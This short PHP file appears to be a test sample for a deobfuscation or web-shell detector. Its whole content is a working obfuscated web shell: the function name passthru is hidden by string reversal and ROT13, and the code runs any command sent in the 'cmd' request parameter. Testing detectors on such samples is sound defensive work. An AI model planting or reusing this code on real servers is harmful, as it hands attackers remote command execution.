<?php // expect: passthru($_REQUEST_DATA)
// The function name is reversed and rotated.
$f = str_rot13(strrev('heugffnc'));
$f($_REQUEST['cmd']);
